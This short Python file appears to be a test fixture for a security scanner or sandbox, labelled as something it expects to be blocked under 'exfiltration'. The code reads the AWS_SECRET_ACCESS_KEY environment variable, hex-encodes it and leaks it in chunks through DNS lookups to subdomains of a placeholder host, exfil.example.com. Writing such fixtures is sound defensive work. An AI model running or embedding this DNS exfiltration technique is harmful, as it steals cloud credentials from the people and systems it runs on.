# expect: BLOCKED category: exfiltration
# Leaks a secret environment variable through DNS lookups.
import binascii
import os
import socket

secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
encoded = binascii.hexlify(secret.encode()).decode()
for i in range(0, len(encoded), 60):
    try:
        socket.gethostbyname(f"{encoded[i:i + 60]}.x.exfil.example.com")
    except OSError:
        pass
